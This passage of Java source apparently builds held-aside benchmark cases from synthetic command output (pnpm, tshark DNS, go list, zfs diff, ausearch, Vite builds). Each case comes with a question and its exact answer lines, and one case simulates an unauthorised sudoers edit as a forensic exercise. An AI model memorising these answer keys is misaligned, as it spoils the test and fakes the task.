        "vite-plugin-svgr", "vite-tsconfig-paths", "vite-plugin-pwa", "workbox-window", "@mdx-js/react", "astro", "@astrojs/react",
        "@astrojs/mdx", "@astrojs/sitemap", "sharp", "satori", "openapi-typescript", "openapi-fetch", "jose", "bcryptjs", "@types/bcryptjs",
        "uuid", "@types/uuid", "nodemailer", "@types/nodemailer", "stripe", "@stripe/stripe-js", "@stripe/react-stripe-js", "mapbox-gl",
        "react-map-gl", "chart.js", "react-chartjs-2", "web-vitals", "@headlessui/react", "@heroicons/react", "classnames", "query-string",
        "react-helmet-async", "react-error-boundary", "use-debounce", "@floating-ui/react", "embla-carousel-react", "react-day-picker",
        "react-dropzone", "browser-image-compression", "socket.io-client", "socket.io", "@faker-js/faker", "supertest", "@types/supertest",
        "nock", "knip", "publint", "size-limit", "@size-limit/preset-app"};

    /**
     * pnpm outdated -r in a frontend monorepo of nine workspace packages: a box-drawn table (a separator line between
     * every row) of about 170 outdated dependencies with current and latest versions and the workspace packages using
     * them, dev dependencies marked (dev). Two are deprecated, their Latest cell reading "Deprecated": react-helmet-async
     * in @acme/web and @acme/docs, and @types/dompurify in @acme/admin. The question asks which dependencies are deprecated
     * and how far behind vitest is: the two Deprecated rows and the vitest row.
     */
    static NeedleCase pnpmOutdated() {
        Gen g = new Gen(250_006);
        String[] workspaces = {"@acme/web", "@acme/admin", "@acme/docs", "@acme/ui", "@acme/api", "@acme/worker", "@acme/config", "@acme/sdk",
            "@acme/e2e"};
        List<String[]> rows = new ArrayList<>();
        Set<String> devs = Set.of("vite", "@vitejs/plugin-react", "typescript", "eslint", "prettier", "vitest", "@types/react", "@types/node",
            "@testing-library/react", "jsdom", "msw", "@playwright/test", "storybook", "tsx", "tsup", "turbo", "husky", "lint-staged", "knip",
            "drizzle-kit", "rimraf", "concurrently", "@types/dompurify", "@faker-js/faker", "supertest", "nock", "publint", "size-limit");
        String vitestRow = null;
        List<String> deprecated = List.of("react-helmet-async", "@types/dompurify");
        for (String pkg : NPM) {
            if (!pkg.equals("vitest") && !deprecated.contains(pkg) && g.chance(0.22)) {
                continue;
            }
            int major = g.between(0, 18);
            int minor = g.between(0, 40);
            int patch = g.between(0, 30);
            String current = major + "." + minor + "." + patch;
            String latest = g.chance(0.35) ? (major + g.between(1, 3)) + "." + g.between(0, 9) + "." + g.between(0, 9)
                    : major + "." + (minor + g.between(0, 6)) + "." + (patch + g.between(1, 9));
            if (pkg.equals("vitest")) {
                current = "1.6.0";
                latest = "2.1.8";
            }
            if (deprecated.contains(pkg)) {
                latest = "Deprecated";
                current = pkg.equals("@types/dompurify") ? "3.0.5" : "2.0.5";
            }
            List<String> users = new ArrayList<>();
            int n = g.weighted(50, 25, 12, 6);
            while (users.size() <= n) {
                String w = g.pick(workspaces);
                if (!users.contains(w)) {
                    users.add(w);
                }
            }
            if (pkg.equals("react-helmet-async")) {
                users = List.of("@acme/docs", "@acme/web");
            } else if (pkg.equals("@types/dompurify")) {
                users = List.of("@acme/admin");
            } else if (pkg.equals("vitest")) {
                users = List.of("@acme/admin", "@acme/api", "@acme/sdk", "@acme/ui", "@acme/web");
            } else {
                users.sort(null);
            }
            rows.add(new String[] {pkg + (devs.contains(pkg) ? " (dev)" : ""), current, latest, String.join(", ", users)});
        }
        rows.sort(java.util.Comparator.comparing((String[] r) -> r[0]));
        int[] w = {"Package".length(), "Current".length(), "Latest".length(), "Dependents".length()};
        for (String[] r : rows) {
            for (int i = 0; i < 4; i++) {
                w[i] = Math.max(w[i], r[i].length());
            }
        }
        String top = "┌" + "─".repeat(w[0] + 2) + "┬" + "─".repeat(w[1] + 2) + "┬" + "─".repeat(w[2] + 2) + "┬" + "─".repeat(w[3] + 2) + "┐";
        String mid = "├" + "─".repeat(w[0] + 2) + "┼" + "─".repeat(w[1] + 2) + "┼" + "─".repeat(w[2] + 2) + "┼" + "─".repeat(w[3] + 2) + "┤";
        String bottom = "└" + "─".repeat(w[0] + 2) + "┴" + "─".repeat(w[1] + 2) + "┴" + "─".repeat(w[2] + 2) + "┴" + "─".repeat(w[3] + 2) + "┘";
        g.add(top);
        g.add("│ " + pad("Package", w[0]) + " │ " + pad("Current", w[1]) + " │ " + pad("Latest", w[2]) + " │ " + pad("Dependents", w[3]) + " │");
        List<String> deprecatedRows = new ArrayList<>();
        for (String[] r : rows) {
            g.add(mid);
            String line = "│ " + pad(r[0], w[0]) + " │ " + pad(r[1], w[1]) + " │ " + pad(r[2], w[2]) + " │ " + pad(r[3], w[3]) + " │";
            g.add(line);
            if (r[2].equals("Deprecated")) {
                deprecatedRows.add(line);
            }
            if (r[0].equals("vitest (dev)")) {
                vitestRow = line;
            }
        }
        g.add(bottom);
        String text = g.text();
        requireLines(g, 250, 500);
        requireCount(text, "Deprecated", 2);
        List<Needle> needles = new ArrayList<>();
        deprecatedRows.forEach(l -> needles.add(Needle.exact(l)));
        needles.add(Needle.exact(vitestRow));
        return NeedleCase.named("fresh22_pnpm_outdated", "table", "pnpm-outdated-r")
                .shell("pnpm outdated -r")
                .question("Dependency hygiene pass on the monorepo: which of our dependencies are deprecated, and in which workspace packages? Also,"
                        + " how far behind is vitest?")
                .heldAside()
                .build(text, needles);
    }

    // ---------------------------------------------------------------- tshark -T fields CSV (DNS)

    private static String q(Object... fields) {
        StringBuilder sb = new StringBuilder();
        for (int i = 0; i < fields.length; i++) {
            sb.append(i == 0 ? "" : ",").append('"').append(fields[i]).append('"');
        }
        return sb.toString();
    }

    /**
     * tshark over a capture of DNS traffic on a Kubernetes node (header row, every field double-quoted, comma-separated):
     * pods asking CoreDNS at 10.96.0.10, the ndots:5 search-list expansions answered NXDOMAIN, the final names answered
     * with A records, AAAA queries often with no answer. Three A queries for the payments database endpoint
     * payments-db.cluster-c9x2k1.eu-west-1.rds.amazonaws.com got SERVFAIL (rcode 2) while the others for the same name
     * succeeded. The question asks which lookups failed with SERVFAIL and when: the three SERVFAIL response rows.
     */
    static NeedleCase tsharkDns() {
        Gen g = new Gen(250_007);
        g.add("frame.number,frame.time_epoch,ip.src,ip.dst,dns.id,dns.flags.response,dns.qry.name,dns.qry.type,dns.flags.rcode,dns.count.answers,dns.a");
        String dns = "10.96.0.10";
        String[] pods = new String[14];
        for (int i = 0; i < pods.length; i++) {
            pods[i] = "10.244." + g.between(1, 6) + "." + g.between(2, 250);
        }
        String rds = "payments-db.cluster-c9x2k1.eu-west-1.rds.amazonaws.com";
        String[] names = {"orders.prod.svc.cluster.local", "redis-master.prod.svc.cluster.local", "kafka-0.kafka-headless.prod.svc.cluster.local",
            "api.stripe.com", "sqs.eu-west-1.amazonaws.com", "s3.eu-west-1.amazonaws.com", rds, rds, "sentry.io", "o4504.ingest.sentry.io",
            "inventory.prod.svc.cluster.local", "otel-collector.observability.svc.cluster.local", "sts.eu-west-1.amazonaws.com"};
        String[] search = {"prod.svc.cluster.local", "svc.cluster.local", "cluster.local", "eu-west-1.compute.internal"};
        long base = LocalDateTime.of(2026, 12, 8, 9, 30, 0).toEpochSecond(ZoneOffset.UTC);
        long ns = 0;
        int frame = 0;
        List<String> servfail = new ArrayList<>();
        int rdsQueries = 0;
        Set<Integer> failAt = Set.of(4, 11, 12);
        while (frame < 2_000) {
            String pod = g.pick(pods);
            String name = g.pick(names);
            boolean internal = name.endsWith("cluster.local");
            List<String> tries = new ArrayList<>();
            if (!internal) {
                for (String s : search) {
                    tries.add(name + "." + s);
                }
            }
            tries.add(name);
            ns += g.between(1_000_000, 1_900_000_000);
            for (String tryName : tries) {
                boolean last = tryName.equals(name);
                for (int type : new int[] {1, 28}) {
                    int id = g.nextInt(65_536);
                    ns += g.between(20_000, 400_000);
                    frame++;
                    g.add(q(frame, fmt("%d.%09d", base + ns / 1_000_000_000L, ns % 1_000_000_000L), pod, dns, fmt("0x%04x", id), 0, tryName, type, "", "",
                            ""));
                    ns += g.between(120_000, 4_000_000);
                    int rcode = last ? 0 : 3;
                    String answers = "";
                    int count = 0;
                    if (last && type == 1) {
                        if (name.equals(rds)) {
                            if (failAt.contains(rdsQueries)) {
                                rcode = 2;
                                ns += 4_800_000_000L + g.between(0, 300_000_000);
                            } else {
                                answers = "10.30.12." + g.pick(41, 187);
                                count = 1;
                            }
                            rdsQueries++;
                        } else {
                            count = internal ? 1 : g.between(1, 4);
                            List<String> ips = new ArrayList<>();
                            for (int i = 0; i < count; i++) {
                                ips.add(internal ? "172.20." + g.between(0, 255) + "." + g.between(1, 254) : g.ip());
                            }
                            answers = String.join(",", ips);
                        }
                    }
                    frame++;
                    String row = q(frame, fmt("%d.%09d", base + ns / 1_000_000_000L, ns % 1_000_000_000L), dns, pod, fmt("0x%04x", id), 1, tryName,
                            type, rcode, count, answers);
                    g.add(row);
                    if (rcode == 2) {
                        servfail.add(row);
                    }
                }
            }
        }
        String text = g.text();
        requireSize(text, 100, 300);
        if (servfail.size() != 3) {
            throw new IllegalStateException("servfail rows: " + servfail.size());
        }
        return NeedleCase.named("fresh22_tshark_dns_csv", "csv", "tshark-fields-csv")
                .shell("tshark -r /tmp/node7-dns.pcap -Y dns -T fields -E header=y -E separator=, -E quote=d -e frame.number -e frame.time_epoch"
                        + " -e ip.src -e ip.dst -e dns.id -e dns.flags.response -e dns.qry.name -e dns.qry.type -e dns.flags.rcode"
                        + " -e dns.count.answers -e dns.a")
                .question("The payments service intermittently fails to connect to its database with 'could not translate host name'. In this DNS"
                        + " capture from its node, which lookups came back SERVFAIL, for which name, and when?")
                .heldAside()
                .build(text, servfail.stream().map(Needle::exact).toList());
    }

    // ---------------------------------------------------------------- go list -m -u all

    private static final String[] GO_ORGS = {"github.com/aws/aws-sdk-go-v2", "github.com/prometheus", "github.com/spf13", "github.com/stretchr",
        "github.com/google", "github.com/grpc-ecosystem", "github.com/jackc", "github.com/redis", "github.com/segmentio", "github.com/uber-go",
        "github.com/hashicorp", "github.com/klauspost", "github.com/cespare", "github.com/davecgh", "github.com/pmezard", "github.com/go-logr",
        "github.com/golang", "github.com/json-iterator", "github.com/modern-go", "github.com/mattn", "github.com/pkg", "github.com/rs",
        "github.com/cenkalti", "github.com/go-chi", "github.com/gorilla", "github.com/lib", "github.com/sirupsen", "github.com/valyala",
        "github.com/andybalholm", "github.com/felixge", "github.com/beorn7", "github.com/munnerz", "github.com/fsnotify", "github.com/spf13",
        "github.com/sagikazarmark", "github.com/subosito", "github.com/pelletier", "github.com/mitchellh", "github.com/magiconair",
        "github.com/twmb", "github.com/pierrec", "github.com/DataDog", "github.com/testcontainers", "github.com/docker", "github.com/opencontainers",
        "github.com/containerd", "github.com/moby", "github.com/Microsoft", "github.com/cpuguy83", "github.com/shirou", "github.com/tklauser",
        "github.com/yusufpapurcu", "github.com/lufia", "github.com/power-devops", "github.com/go-ole", "github.com/kr", "github.com/rogpeppe"};
    private static final String[] GO_REPOS = {"aws", "config", "credentials", "service/s3", "service/sqs", "service/sts", "feature/s3/manager",
        "internal/ini", "client_golang", "client_model", "common", "procfs", "cobra", "pflag", "viper", "cast", "afero", "testify", "objx",
        "uuid", "go-cmp", "s2a-go", "grpc-gateway/v2", "pgx/v5", "pgpassfile", "pgservicefile", "puddle/v2", "go-redis/v9", "kafka-go",
        "zap", "multierr", "atomic", "goleak", "go-retryablehttp", "go-cleanhttp", "golang-lru/v2", "compress", "xxhash/v2", "go-spew",
        "go-difflib", "logr", "stdr", "protobuf", "mock", "snappy", "groupcache", "go", "reflect2", "go-isatty", "go-colorable", "errors",
        "zerolog", "backoff/v4", "chi/v5", "mux", "websocket", "pq", "logrus", "fasthttp", "bytebufferpool", "brotli", "httpsnoop",
        "perks", "gotenv", "go-toml/v2", "mapstructure", "properties", "franz-go", "franz-go/pkg/kmsg", "lz4/v4", "dd-trace-go",
        "testcontainers-go", "docker", "go-connections", "go-units", "image-spec", "go-digest", "log", "platforms", "patternmatcher",
        "sys/user", "go-winio", "hcsshim", "go-md2man/v2", "gopsutil/v3", "numcpus", "go-ole", "pretty", "text", "go-internal"};

    private static String goVersion(Gen g) {
        return g.chance(0.08) ? "v0.0.0-2024" + fmt("%02d%02d%02d%02d%02d", g.between(1, 12), g.between(1, 28), g.between(0, 23), g.between(0, 59),
                g.between(0, 59)) + "-" + g.hex(12) : "v" + g.between(0, 5) + "." + g.between(0, 40) + "." + g.between(0, 20);
    }

    /**
     * go list -m -u all in a Go service module: the main module, then about 330 modules sorted by path with their versions,
     * an update in brackets for many, pseudo-versions for a few, a replace of the shared proto module to ../proto. One
     * dependency is on a retracted version (github.com/segmentio/kafka-go v0.4.45 (retracted) [v0.4.47]), two modules are
     * deprecated (github.com/golang/mock and github.com/pkg/errors, both marked (deprecated)). The question asks whether any
     * dependency is retracted or deprecated and which grpc version is used: those three lines and the google.golang.org/grpc
     * line.
     */
    static NeedleCase goListModules() {
        Gen g = new Gen(250_008);
        Map<String, String> mods = new java.util.TreeMap<>();
        for (String org : GO_ORGS) {
            int n = org.contains("aws-sdk-go-v2") ? 8 : g.between(1, 6);
            for (int i = 0; i < n; i++) {
                String repo = g.pick(GO_REPOS);
                mods.put(org + "/" + repo, goVersion(g));
            }
        }
        for (String x : new String[] {"crypto", "exp", "mod", "net", "oauth2", "sync", "sys", "term", "text", "time", "tools", "xerrors"}) {
            mods.put("golang.org/x/" + x, goVersion(g));
        }
        for (String x : new String[] {"go.opentelemetry.io/otel", "go.opentelemetry.io/otel/metric", "go.opentelemetry.io/otel/trace",
            "go.opentelemetry.io/otel/sdk", "go.opentelemetry.io/otel/exporters/otlp/otlptrace/otlptracegrpc",
            "go.opentelemetry.io/contrib/instrumentation/net/http/otelhttp", "go.opentelemetry.io/proto/otlp", "google.golang.org/protobuf",
            "google.golang.org/genproto/googleapis/api", "google.golang.org/genproto/googleapis/rpc", "google.golang.org/api",
            "cloud.google.com/go/compute/metadata", "gopkg.in/yaml.v3", "gopkg.in/ini.v1", "gopkg.in/check.v1", "go.uber.org/mock",
            "gotest.tools/v3", "dario.cat/mergo", "filippo.io/edwards25519", "honnef.co/go/tools", "k8s.io/apimachinery", "k8s.io/client-go",
            "k8s.io/klog/v2", "k8s.io/utils", "sigs.k8s.io/yaml", "sigs.k8s.io/json", "nhooyr.io/websocket", "modernc.org/sqlite",
            "modernc.org/libc", "modernc.org/mathutil", "modernc.org/memory"}) {
            mods.put(x, goVersion(g));
        }
        mods.remove("github.com/segmentio/kafka-go");
        mods.remove("github.com/golang/mock");
        mods.remove("github.com/pkg/errors");
        mods.put("github.com/segmentio/kafka-go", "v0.4.45 (retracted) [v0.4.47]");
        mods.put("github.com/golang/mock", "v1.6.0 (deprecated)");
        mods.put("github.com/pkg/errors", "v0.9.1 (deprecated)");
        mods.put("google.golang.org/grpc", "v1.62.1 [v1.68.1]");
        mods.put("github.com/acme/ledger-proto", "v0.0.0-00010101000000-000000000000 => ../proto");
        g.add("github.com/acme/ledger");
        for (Map.Entry<String, String> e : mods.entrySet()) {
            String v = e.getValue();
            if (!v.contains("[") && !v.contains("(") && !v.contains("=>") && g.chance(0.45)) {
                String[] parts = v.startsWith("v0.0.0-") ? null : v.substring(1).split("\\.");
                v += parts == null ? " [v0.0.0-20241" + g.between(101, 128) + g.between(100_000, 235_959) + "-" + g.hex(12) + "]"
                        : " [v" + parts[0] + "." + (Integer.parseInt(parts[1]) + g.between(0, 4)) + "." + (Integer.parseInt(parts[2]) + g.between(1, 9))
                        + "]";
            }
            g.add(e.getKey() + " " + v);
        }
        String text = g.text();
        requireLines(g, 200, 500);
        requireCount(text, "(retracted)", 1);
        requireCount(text, "(deprecated)", 2);
        return NeedleCase.named("fresh22_go_list_modules", "listing", "go-list-m-u")
                .shell("go list -m -u all")
                .question("Before tagging the release: is any Go dependency on a retracted version or deprecated? And which version of"
                        + " google.golang.org/grpc are we on, and is there a newer one?")
                .heldAside()
                .build(text, List.of(Needle.exact(only(text, "(retracted)")), Needle.exact("github.com/golang/mock v1.6.0 (deprecated)"),
                        Needle.exact("github.com/pkg/errors v0.9.1 (deprecated)"), Needle.exact("google.golang.org/grpc v1.62.1 [v1.68.1]")));
    }

    // ---------------------------------------------------------------- zfs diff -F

    /**
     * sudo zfs diff -F between this night's 02:00 snapshot of tank/srv and the live dataset, mounted at /srv, of a server
     * running a Symfony app: in zfs diff's own order, a change mark (M, +, -, R) and a file type (F, /, @) per line; thousands
     * of changed log files, cache files and PHP sessions created and deleted, uploaded media added, directories modified.
     * In /srv/app/config someone edited parameters.yaml, deleted packages/messenger.yaml, renamed the TLS key and added a
     * new .env.local. The question asks what changed in the app's config directory since the snapshot: those four lines.
     */
    static NeedleCase zfsDiff() {
        Gen g = new Gen(250_009);
        List<String> lines = new ArrayList<>();
        Set<String> used = new java.util.HashSet<>();
        for (int i = 0; i < 900; i++) {
            String f = "/srv/app/var/cache/prod/pools/app/" + Inputs.MIXED.charAt(g.nextInt(26)) + "/" + Inputs.MIXED.charAt(g.nextInt(26)) + "/"
                    + Inputs.mixed(g, 14);
            if (used.add(f)) {
                lines.add(g.pick("+", "+", "-", "M") + "\tF\t" + f);
            }
        }
        for (int i = 0; i < 700; i++) {
            String f = "/srv/app/var/sessions/prod/sess_" + g.alnum(26);
            if (used.add(f)) {
                lines.add(g.pick("+", "-", "M", "M") + "\tF\t" + f);
            }
        }
        for (int i = 0; i < 320; i++) {
            String f = "/srv/app/public/media/cache/" + g.pick("thumb_240", "thumb_480", "product_1200", "banner_1920") + "/uploads/2026/12/" + g.hex(13)
                    + "." + g.pick("jpg", "webp", "png");
            if (used.add(f)) {
                lines.add("+\tF\t" + f);
            }
        }
        for (int i = 0; i < 90; i++) {
            String f = "/srv/app/public/uploads/2026/12/" + g.hex(13) + "." + g.pick("jpg", "jpg", "png", "pdf");
            if (used.add(f)) {
                lines.add("+\tF\t" + f);
            }
        }
        for (String log : new String[] {"/srv/app/var/log/prod.log", "/srv/app/var/log/messenger.log", "/srv/app/var/log/security.log",
            "/srv/app/var/log/deprecations.log", "/srv/log/nginx/access.log", "/srv/log/nginx/error.log", "/srv/log/php8.3-fpm.log"}) {
            lines.add("M\tF\t" + log);
        }
        lines.add("M\t/\t/srv/app/var/log");
        lines.add("M\t/\t/srv/log/nginx");
        for (int d = 1; d <= 7; d++) {
            lines.add("+\tF\t/srv/app/var/log/prod-2026-12-0" + d + ".log.gz");
        }
        lines.add("-\tF\t/srv/app/var/log/prod-2026-11-30.log.gz");
        for (String a : "abcdefghijklmnopqrstuvwxyz".split("")) {
            lines.add("M\t/\t/srv/app/var/cache/prod/pools/app/" + a.toUpperCase(Locale.ROOT));
        }
        lines.add("M\t/\t/srv/app/var/sessions/prod");
        lines.add("M\t/\t/srv/app/public/uploads/2026/12");
        lines.add("M\tF\t/srv/app/var/cache/prod/App_KernelProdContainer.php");
        lines.add("M\tF\t/srv/app/var/cache/prod/url_generating_routes.php");
        lines.add("M\tF\t/srv/app/var/cache/prod/annotations.map");
        lines.add("M\t@\t/srv/app/current");
        List<String> config = List.of("M\tF\t/srv/app/config/parameters.yaml", "-\tF\t/srv/app/config/packages/messenger.yaml",
                "R\tF\t/srv/app/config/jwt/private.pem -> /srv/app/config/jwt/private.pem.old", "+\tF\t/srv/app/config/.env.local");
        lines.addAll(config);
        lines.add("M\t/\t/srv/app/config");
        lines.add("M\t/\t/srv/app/config/packages");
        lines.add("M\t/\t/srv/app/config/jwt");
        shuffle(g, lines);
        lines.forEach(g::add);
        String text = g.text();
        requireLines(g, 1500, 2500);
        requireCount(text, "/srv/app/config/", 7);
        return NeedleCase.named("fresh22_zfs_diff", "diff", "zfs-diff")
                .shell("sudo zfs diff -F tank/srv@autosnap_2026-12-08_02:00:00_hourly tank/srv")
                .question("The app has been throwing 500s since this morning and someone may have touched its config. Compared to the 02:00"
                        + " snapshot, what changed under /srv/app/config?")
                .heldAside()
                .build(text, config.stream().map(Needle::exact).toList());
    }

    // ---------------------------------------------------------------- ausearch -i

    private static final DateTimeFormatter AUDIT_TIME = DateTimeFormatter.ofPattern("MM/dd/yyyy HH:mm:ss.SSS", Locale.ROOT);

    /**
     * sudo ausearch -k priv_files -i --start today on a bastion host: interpreted audit events of the write/attribute watches
     * on /etc/sudoers, /etc/sudoers.d, /etc/passwd, /etc/shadow and /etc/group, each a "----" separated group of PROCTITLE,
     * PATH, CWD and SYSCALL records. Routine: Ansible (auid deploy, python3) rewriting its managed sudoers.d file and
     * passwd/group through temp files and renames every half hour, usermod and chage runs by the account expiry timer,
     * useradd of a new contractor, passwd changes. At 13:47 user tkowalski (auid) ran, as root via sudo, tee -a
     * /etc/sudoers.d/90-cloud-init-users. The question asks who edited the sudoers files outside of Ansible, when and how:
     * that event's PROCTITLE, its PATH record of the sudoers.d file and its SYSCALL record.
     */
    static NeedleCase ausearch() {
        Gen g = new Gen(250_010);
        Clock c = new Clock(g, LocalDateTime.of(2026, 12, 8, 0, 0, 0));
        int serial = 1_184_220;
        List<String> needles = new ArrayList<>();
        boolean done = false;
        int inode = 2_097_000;
        while (c.now().getHour() < 17) {
            c.step(800_000);
            boolean now = !done && c.now().getHour() == 13 && c.now().getMinute() >= 40;
            serial += g.between(40, 3_000);
            String ts = "msg=audit(" + AUDIT_TIME.format(c.now()) + ":" + serial + ") : ";
            int kind = now ? -1 : g.weighted(60, 15, 10, 6);
            String proctitle;
            List<String[]> paths = new ArrayList<>();
            String cwd;
            String syscall;
            String auid;
            String comm;
            String exe;
            String tty;
            String ses;
            int pid = g.between(3_000, 600_000);
            int ppid = pid - g.between(1, 40);
            switch (kind) {
                case -1 -> {
                    proctitle = "tee -a /etc/sudoers.d/90-cloud-init-users";
                    paths.add(new String[] {"/etc/sudoers.d/", "dir,750", "PARENT"});
                    paths.add(new String[] {"/etc/sudoers.d/90-cloud-init-users", "file,440", "NORMAL"});
                    cwd = "/home/tkowalski";
                    syscall = "openat";
                    auid = "tkowalski";
                    comm = "tee";
                    exe = "/usr/bin/tee";
                    tty = "pts3";
                    ses = "4127";
                    done = true;
                }
                case 0 -> {
                    String target = g.pick("/etc/sudoers.d/ansible-managed", "/etc/passwd", "/etc/group", "/etc/shadow");
                    String dirName = target.substring(0, target.lastIndexOf('/') + 1);
                    proctitle = "/usr/bin/python3 /home/deploy/.ansible/tmp/ansible-tmp-" + (1_796_688_000 + g.nextInt(80_000)) + "."
                            + g.between(10, 99) + "-" + g.between(10_000, 99_999) + "-" + g.between(10_000_000, 99_999_999) + "/AnsiballZ_"
                            + (target.contains("sudoers") ? "template" : g.pick("user", "group")) + ".py";
                    paths.add(new String[] {dirName, target.contains("sudoers") ? "dir,750" : "dir,755", "PARENT"});
                    paths.add(new String[] {dirName, target.contains("sudoers") ? "dir,750" : "dir,755", "PARENT"});
                    paths.add(new String[] {dirName + ".ansible_tmp" + g.alnum(8) + target.substring(target.lastIndexOf('/') + 1),
                        target.equals("/etc/shadow") ? "file,640" : target.contains("sudoers") ? "file,440" : "file,644", "DELETE"});
                    paths.add(new String[] {target, target.equals("/etc/shadow") ? "file,640" : target.contains("sudoers") ? "file,440" : "file,644",
                        "CREATE"});
                    cwd = "/home/deploy";
                    syscall = "rename";
                    auid = "deploy";
                    comm = "python3";
                    exe = "/usr/bin/python3.12";
                    tty = "(none)";
                    ses = String.valueOf(g.between(3_900, 4_200));
                }
                case 1 -> {
                    String user = g.pick("ext-mlopez", "ext-rsingh", "svc-backup", "ext-abauer");
                    proctitle = g.pick("usermod -L -e 1 " + user, "chage -E 2026-12-31 " + user);
                    paths.add(new String[] {"/etc/", "dir,755", "PARENT"});
                    paths.add(new String[] {"/etc/shadow+", "file,640", "CREATE"});
                    cwd = "/";
                    syscall = "openat";
                    auid = "unset";
                    comm = proctitle.substring(0, proctitle.indexOf(' '));
                    exe = "/usr/sbin/" + comm;
                    tty = "(none)";
                    ses = "unset";
                }
                case 2 -> {
                    String user = g.pick("mbrandt", "okeefe", "sgupta", "tkowalski", "deploy");
                    proctitle = "passwd";
                    paths.add(new String[] {"/etc/", "dir,755", "PARENT"});
                    paths.add(new String[] {"/etc/nshadow", "file,640", "CREATE"});
                    cwd = "/home/" + user;
                    syscall = "openat";
                    auid = user;
                    comm = "passwd";
                    exe = "/usr/bin/passwd";
                    tty = "pts" + g.between(0, 6);
                    ses = String.valueOf(g.between(3_900, 4_200));
                }
                default -> {
                    proctitle = "useradd -m -s /bin/bash -G contractors ext-" + g.alnum(6);
                    paths.add(new String[] {"/etc/", "dir,755", "PARENT"});
                    paths.add(new String[] {"/etc/passwd+", "file,644", "CREATE"});
                    cwd = "/home/deploy";
                    syscall = "openat";
                    auid = "deploy";
                    comm = "useradd";
                    exe = "/usr/sbin/useradd";
                    tty = "(none)";
                    ses = String.valueOf(g.between(3_900, 4_200));
                }
            }
            g.add("----");
            String pt = "type=PROCTITLE " + ts + "proctitle=" + proctitle + " ";
            g.add(pt);
            for (int i = paths.size() - 1; i >= 0; i--) {
                String[] p = paths.get(i);
                inode += g.between(1, 40);
                String line = "type=PATH " + ts + "item=" + i + " name=" + p[0] + " inode=" + (p[2].equals("PARENT") ? 1_835_009 : inode)
                        + " dev=103:01 mode=" + p[1] + " ouid=root ogid=root rdev=00:00 nametype=" + p[2]
                        + " cap_fp=none cap_fi=none cap_fe=0 cap_fver=0 cap_frootid=0 ";
                g.add(line);
                if (kind == -1 && i == 1) {
                    needles.add(line);
                }
            }
            g.add("type=CWD " + ts + "cwd=" + cwd + " ");
            String sc = "type=SYSCALL " + ts + "arch=x86_64 syscall=" + syscall + " success=yes exit=" + (syscall.equals("rename") ? "0" : "3")
                    + " a0=" + (syscall.equals("rename") ? "0x7f" + g.hex(10) : "AT_FDCWD") + " a1=0x" + g.hex(12) + " a2="
                    + (syscall.equals("rename") ? "0x" + g.hex(12) : kind == -1 ? "O_WRONLY|O_CREAT|O_APPEND" : "O_WRONLY|O_CREAT|O_EXCL")
                    + " a3=0x1b6 items=" + paths.size() + " ppid=" + ppid + " pid=" + pid + " auid=" + auid + " uid=root gid=root euid=root"
                    + " suid=root fsuid=root egid=root sgid=root fsgid=root tty=" + tty + " ses=" + ses + " comm=" + comm + " exe=" + exe
                    + " subj=unconfined key=priv_files ";
            g.add(sc);
            if (kind == -1) {
                needles.add(0, pt);
                needles.add(sc);
            }
        }
        String text = g.text();
        requireLines(g, 600, 4000);
        requireSize(text, 60, 300);
        requireCount(text, "90-cloud-init-users", 2);
        if (needles.size() != 3) {
            throw new IllegalStateException("needles: " + needles.size());
        }
        return NeedleCase.named("fresh22_ausearch", "search", "ausearch-i")
                .shell("sudo ausearch -k priv_files -i --start today")
                .question("Someone gave a user passwordless sudo on bastion-2 today. Apart from the Ansible runs, who edited the sudoers files,"
                        + " when, and with what command?")
                .heldAside()
                .build(text, needles.stream().map(Needle::exact).toList());
    }

    // ---------------------------------------------------------------- pnpm -r run build (Vite)

    private static String viteHash(Gen g) {
        String abc = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789_-";
        StringBuilder sb = new StringBuilder();
        for (int i = 0; i < 8; i++) {
            sb.append(abc.charAt(g.nextInt(abc.length())));
        }
        return sb.toString();
    }

    /**
     * pnpm -r run build in a frontend monorepo on CI: packages/ui and packages/sdk build first (tsc then vite library
     * mode), then apps/web, apps/admin and apps/docs run concurrently, their prefixed lines interleaved: vite's
     * transforming and rendering lines, dozens of "Module level directives cause errors when bundled, "use client" ... was
     * ignored" warnings from Radix and TanStack packages, the aligned list of hundreds of emitted assets with sizes and gzip
     * sizes, web's "Some chunks are larger than 500 kB" warning. apps/admin fails: Rollup cannot resolve the import
     * "@acme/ui/date-range-picker" from src/pages/reports/RevenueReport.tsx, and pnpm ends with ERR_PNPM_RECURSIVE_RUN_FIRST_FAIL.
     * The question asks which package broke the build and why: the "Rollup failed to resolve import" line, the admin's
     * "Build failed" line and the ERR_PNPM line.
     */
    static NeedleCase viteBuild() {
        Gen g = new Gen(250_011);
        g.add("Scope: 8 of 9 workspace projects");
        String root = "/home/runner/work/storefront/storefront";
        for (String lib : new String[] {"packages/ui", "packages/sdk"}) {
            String p = lib + " build";
            g.add(p + "$ tsc -p tsconfig.build.json && vite build");
            g.add(p + ": vite v5.4.11 building for production...");
            g.add(p + ": transforming...");
            int warns = lib.equals("packages/ui") ? g.between(8, 14) : 0;
            for (int i = 0; i < warns; i++) {
                g.add(p + ": Module level directives cause errors when bundled, \"use client\" in \"../../node_modules/.pnpm/@radix-ui+react-"
                        + g.pick("dialog", "popover", "select", "tooltip", "tabs", "dropdown-menu", "checkbox") + "@1." + g.between(0, 2) + "."
                        + g.between(0, 9) + "_@types+react@18.3.12_react-dom@18.3.1_react@18.3.1/node_modules/@radix-ui/react-"
                        + g.pick("dialog", "popover", "select", "tooltip") + "/dist/index.mjs\" was ignored.");
            }
            g.add(p + ": ✓ " + g.between(80, 460) + " modules transformed.");
            g.add(p + ": rendering chunks...");
            g.add(p + ": computing gzip size...");
            int files = lib.equals("packages/ui") ? 34 : 6;
            for (int i = 0; i < files; i++) {
                String name = lib.equals("packages/ui") ? "dist/" + g.pick("button", "dialog", "table", "select", "tabs", "toast", "card", "badge",
                        "input", "form", "sheet", "chart") + "-" + viteHash(g) + ".js" : "dist/" + g.pick("client", "types", "errors", "auth", "orders",
                        "catalog") + ".js";
                double kb = 0.2 + g.nextDouble() * 40;
                g.add(p + ": " + pad(name, 34) + lpad(fmt("%.2f kB", kb), 10) + " │ gzip: " + lpad(fmt("%.2f kB", kb / 3.4), 8) + " │ map: "
                        + lpad(fmt("%.2f kB", kb * 3.1), 9));
            }
            g.add(p + ": ✓ built in " + fmt("%.2fs", 1 + g.nextDouble() * 6));
            g.add(p + ": Done");
        }
        String[] apps = {"apps/web", "apps/admin", "apps/docs"};
